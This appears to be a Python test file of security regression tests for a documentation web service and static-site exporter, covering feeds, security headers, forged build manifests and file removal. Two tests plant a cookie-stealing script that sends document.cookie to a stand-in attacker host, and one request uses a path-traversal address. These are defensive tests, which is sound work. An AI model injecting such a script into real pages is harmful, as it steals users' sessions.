"""Attacks found by exploratory testing (docs/operators.md, "Security"), each kept from coming
back: what an author can commit, what anyone can ask the service, what a static export does
with the folder it is given.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from xml.etree import ElementTree

import pytest
from conftest import SCHEDULE, ManualRepo, doc
from fastapi.testclient import TestClient

from web.app import create_app
from web.export import build_site
from web.outdir import OutDir

TODAY = date(2024, 3, 20)
BASE = "https://procedures.example.org"
EVERY_RESPONSE = ("content-security-policy", "x-content-type-options", "referrer-policy",
                  "x-frame-options")  # fmt: skip


@pytest.fixture
def pasted(repo: ManualRepo) -> ManualRepo:
    """A chapter pasted from a word processor: a vertical tab (Word's line break) in its title
    and a form feed in its change note, characters XML 1.0 cannot hold."""
    repo.commit({"manual.toml": SCHEDULE}, "Settings", "2023-12-01T09:00:00+00:00")
    repo.commit({"a.md": doc("A", "Body\x0btext.", title='"Referrals\\vand\\x01 Assessments"')},
                "Add", "2024-01-02T10:00:00+00:00",
                trailers={"Change-Note": "Pasted\x0c from Word\x1b[31m."})  # fmt: skip
    return repo


def test_a_control_character_an_author_pasted_never_breaks_a_feed(pasted: ManualRepo):
    with TestClient(create_app(pasted.open(), TODAY), raise_server_exceptions=False) as web:
        for address in ("/feeds/releases.atom", "/chapters/a/feed.atom"):
            response = web.get(address)
            assert response.status_code == 200, (address, response.text[:300])
            feed = ElementTree.fromstring(response.content)  # well-formed XML 1.0
            text = "".join(feed.itertext())
            assert "Referrals and  Assessments" in text and "Pasted" in text


@pytest.fixture
def failing(repo: ManualRepo) -> Iterator[TestClient]:
    """The service with one more address, which fails as a bug in a route would."""
    repo.commit({"a.md": doc("A")}, "Add", "2024-01-02T10:00:00+00:00")
    app = create_app(repo.open(), TODAY)

    def broken() -> None:
        raise RuntimeError("a bug")

    app.add_api_route("/broken", broken, methods=["GET", "HEAD"])
    with TestClient(app, raise_server_exceptions=False) as web:
        yield web


def test_an_unexpected_error_s_page_carries_the_security_headers(failing: TestClient):
    for method in ("GET", "HEAD"):
        response = failing.request(method, "/broken")
        assert response.status_code == 500
        assert [h for h in EVERY_RESPONSE if h not in response.headers] == [], method
    page = failing.get("/broken")
    nonce = page.headers["content-security-policy"].split("'nonce-")[1].split("'")[0]
    assert f'nonce="{nonce}"' in page.text  # the page's own scripts still run


def test_every_kind_of_answer_carries_the_security_headers(failing: TestClient, tmp_path: Path):
    for address in ("/", "/nope", "/chapters/a/", "/static/favicon.svg", "/healthz",
                    "/api/chapters/a", "/api/chapters/..%2f", "/chapters/a/feed.atom"):  # fmt: skip
        for method in ("GET", "HEAD"):
            response = failing.request(method, address, follow_redirects=False)
            missing = [h for h in EVERY_RESPONSE if h not in response.headers]
            assert missing == [], (method, address, response.status_code)
    response = failing.post("/chapters")
    assert response.status_code == 405 and "content-security-policy" in response.headers


def test_a_folder_committed_with_a_manifest_cannot_slip_its_own_pages_into_an_export(
    repo: ManualRepo,
):
    """An author commits ``public/`` holding a real build's manifest and a page of their own
    at the address of one of the build's; CI then builds into ``public/`` in its checkout. The
    manifest says the page is ours and unchanged: it must still be what this build makes."""
    repo.commit({"a.md": doc("A")}, "Add", "2024-01-02T10:00:00+00:00")
    honest = repo.path.parent / "honest"
    build_site(repo.open(), honest, BASE, TODAY)
    public = repo.path / "public"
    shutil.copytree(honest, public, ignore=shutil.ignore_patterns(".tracker-build.lock"))
    planted = '<script>location="https://evil.example/"+document.cookie</script>'
    for page in ("index.html", "chapters/a/index.html", "static/app.js"):
        (public / page).write_text(planted, encoding="utf-8")
    repo.git("add", "--all")
    repo.git("commit", "--quiet", "-m", "Add the site")
    build_site(repo.open(), public, BASE, TODAY)
    for page in ("index.html", "chapters/a/index.html", "static/app.js"):
        assert (public / page).read_bytes() == (honest / page).read_bytes(), page


def test_a_manifest_edited_to_vouch_for_planted_pages_is_not_believed(repo: ManualRepo):
    """The same, with the manifest edited to give the planted pages' own digests (review: the
    read-back compared each file with the manifest beside it, which the author wrote too).
    Only the manifest this user's last build wrote into the folder is believed (its digest is
    kept in the cache folder); an incremental build into one's own folder still keeps what is
    unchanged."""
    repo.commit({"a.md": doc("A")}, "Add", "2024-01-02T10:00:00+00:00")
    honest = repo.path.parent / "honest"
    build_site(repo.open(), honest, BASE, TODAY)
    again = build_site(repo.open(), honest, BASE, TODAY)
    assert again.counts.written == 0 and again.rendered == ()  # (incremental, its own folder)
    public = repo.path / "public"
    shutil.copytree(honest, public, ignore=shutil.ignore_patterns(".tracker-build.lock"))
    planted = b'<script>location="https://evil.example/"+document.cookie</script>'
    evil = hashlib.sha256(planted).hexdigest()
    manifest = json.loads((public / ".tracker-build.json").read_text())
    for page in ("index.html", "chapters/a/index.html"):
        (public / page).write_bytes(planted)
        manifest["files"][page] = evil
    for address, kept in manifest["pages"]["pages"].items():
        if address in ("/", "/chapters/a/"):
            kept[1] = evil
    (public / ".tracker-build.json").write_text(json.dumps(manifest))
    repo.git("add", "--all")
    repo.git("commit", "--quiet", "-m", "Add the site")
    build_site(repo.open(), public, BASE, TODAY)
    for page in ("index.html", "chapters/a/index.html"):
        assert (public / page).read_bytes() == (honest / page).read_bytes(), page


def test_a_manifest_not_written_by_a_build_cannot_have_someone_s_files_removed(
    repo: ManualRepo, tmp_path: Path
):
    """A .tracker-build.json forged into a folder of someone's own files, listing them, let a
    build use the folder and remove them (security review; operators.md said nothing it lists
    is removed): a listed file is removed only while its content is what the manifest lists,
    so theirs stay, and a page of the build's own that it no longer makes still goes."""
    repo.commit({"a.md": doc("A")}, "Add", "2024-01-02T10:00:00+00:00")
    forged = tmp_path / "forged"
    (forged / "notes").mkdir(parents=True)
    (forged / "notes" / "important.txt").write_text("mine")
    (forged / "README.txt").write_text("hi")
    (forged / "old.html").write_text("a page a build wrote")
    listed = {"notes/important.txt": "x", "README.txt": hashlib.sha256(b"other").hexdigest(),
              "old.html": hashlib.sha256(b"a page a build wrote").hexdigest()}  # fmt: skip
    manifest = {"tracker-build": 2, "files": listed, "pages": {}}
    (forged / ".tracker-build.json").write_text(json.dumps(manifest))
    report = build_site(repo.open(), forged, BASE, TODAY)
    assert (forged / "notes" / "important.txt").read_text() == "mine"
    assert (forged / "README.txt").read_text() == "hi"
    assert not (forged / "old.html").exists() and report.counts.removed == 1


def test_a_build_stopped_midway_does_not_vouch_for_a_forged_manifest_s_list(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """A build saves its manifest as it goes, listing the last manifest's files too (to remove
    them next time if it stops): those of a manifest not believed keep its digests, so the
    next build, which believes the manifest saved, still removes only files that match."""
    monkeypatch.setattr("web.outdir.SAVE_EVERY", 1)
    out, vouches = tmp_path / "site", tmp_path / "vouches"
    out.mkdir()
    vouches.mkdir()
    (out / "mine.txt").write_text("mine")
    (out / "old.html").write_text("old")
    listed = {"mine.txt": "x", "old.html": hashlib.sha256(b"old").hexdigest()}
    (out / ".tracker-build.json").write_text(json.dumps({"tracker-build": 2, "files": listed}))
    stopped = OutDir.open(out, vouches=vouches)
    stopped.put("a.html", b"1")  # (saved, and vouched for; then the build stops)
    stopped.close()
    counts = OutDir.open(out, vouches=vouches).sync({"a.html": b"1"})
    assert (out / "mine.txt").read_text() == "mine" and not (out / "old.html").exists()
    assert (counts.unchanged, counts.removed) == (1, 1)


def test_a_file_changed_since_the_build_wrote_it_is_not_removed(tmp_path: Path):
    """Nor is a file of the last build's that someone changed since: it is theirs now."""
    out = tmp_path / "site"
    OutDir.open(out).sync({"a.html": b"1", "b.html": b"2", "c/index.html": b"3"})
    (out / "b.html").write_text("changed by hand")
    counts = OutDir.open(out).sync({"a.html": b"1"})
    assert (counts.unchanged, counts.removed) == (1, 1)
    assert (out / "b.html").read_text() == "changed by hand" and not (out / "c").exists()


def test_a_fifo_where_the_manifest_lists_a_page_does_not_hang_the_build(repo: ManualRepo):
    """Reading a file back to compare it opened a FIFO and waited for ever (review)."""
    repo.commit({"a.md": doc("A")}, "Add", "2024-01-02T10:00:00+00:00")
    site = repo.path.parent / "site"
    build_site(repo.open(), site, BASE, TODAY)
    (site / "chapters" / "a" / "index.html").unlink()
    os.mkfifo(site / "chapters" / "a" / "index.html")
    build_site(repo.open(), site, BASE, TODAY)
    assert (site / "chapters" / "a" / "index.html").is_file()


def test_without_the_cache_folder_a_build_writes_every_file_and_still_removes_what_went(
    repo: ManualRepo, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
):
    """CI keeping the output folder but not the cache folder: the manifest is not vouched for,
    so every file is written anew, and the files it lists that this build does not make (as a
    page of a version no longer shown) are still removed."""
    repo.commit({"a.md": doc("A")}, "Add", "2024-01-02T10:00:00+00:00")
    site = tmp_path / "site"
    monkeypatch.setenv("TRACKER_CACHE_DIR", str(tmp_path / "first"))
    first = build_site(repo.open(), site, BASE, TODAY)
    gone = site / "chapters" / "a" / "at" / "1999-01-01" / "index.html"  # as a past build's
    gone.parent.mkdir(parents=True)
    gone.write_text("old")
    manifest = json.loads((site / ".tracker-build.json").read_text())
    manifest["files"]["chapters/a/at/1999-01-01/index.html"] = hashlib.sha256(b"old").hexdigest()
    (site / ".tracker-build.json").write_text(json.dumps(manifest))
    monkeypatch.setenv("TRACKER_CACHE_DIR", str(tmp_path / "second"))
    report = build_site(repo.open(), site, BASE, TODAY)
    assert report.counts.unchanged == 0 and report.counts.written == report.files == first.files
    assert not gone.exists() and report.counts.removed == 1
    again = build_site(repo.open(), site, BASE, TODAY)  # (vouched for now)
    assert again.counts.written == 0 and again.counts.unchanged == again.files
